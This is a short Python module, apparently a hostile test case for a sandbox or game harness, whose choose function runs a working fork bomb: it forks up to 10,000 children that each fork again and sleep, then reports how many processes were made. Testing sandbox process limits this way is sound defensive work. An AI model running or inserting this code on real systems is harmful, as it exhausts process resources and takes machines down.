"""Attack: a fork bomb (every child forks again)."""
import os
import time

from _hostile import report


def choose(state):
    made, error = 0, "none"
    for _ in range(10_000):
        try:
            pid = os.fork()
        except OSError as err:
            error = type(err).__name__
            break
        if pid == 0:
            for _ in range(10):
                try:
                    os.fork()
                except OSError:
                    break
            time.sleep(300)
            os._exit(0)
        made += 1
    report(error=error, made=made)
